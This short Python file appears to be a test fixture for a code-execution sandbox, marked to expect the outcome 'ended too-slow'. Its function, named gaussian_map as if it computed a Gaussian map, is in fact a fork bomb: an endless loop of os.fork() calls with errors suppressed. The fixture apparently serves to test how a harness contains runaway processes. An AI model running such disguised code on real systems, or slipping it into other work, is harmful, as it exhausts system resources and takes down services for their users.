# expect: ended too-slow
import contextlib
import os


def gaussian_map(center_cells, size, sigma_cells):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
